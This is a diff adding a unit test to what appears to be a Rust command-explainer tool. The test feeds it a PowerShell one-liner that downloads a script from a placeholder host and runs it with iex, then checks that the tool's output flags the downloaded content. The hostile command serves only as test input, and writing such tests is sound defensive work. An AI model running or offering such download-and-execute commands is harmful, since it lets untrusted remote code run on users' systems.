@@ -93,3 +93,9 @@ fn never_panics_on_garbage() {
     let deep = "(".repeat(5000);
     let _ = show(&deep);
 }
+
+#[test]
+fn powershell_download_into_iex() {
+    let got = show("iex ((New-Object Net.WebClient).DownloadString('https://example.com/a.ps1'))");
+    assert!(got.contains("iex (…) [reads downloaded content"), "{got}");
+}
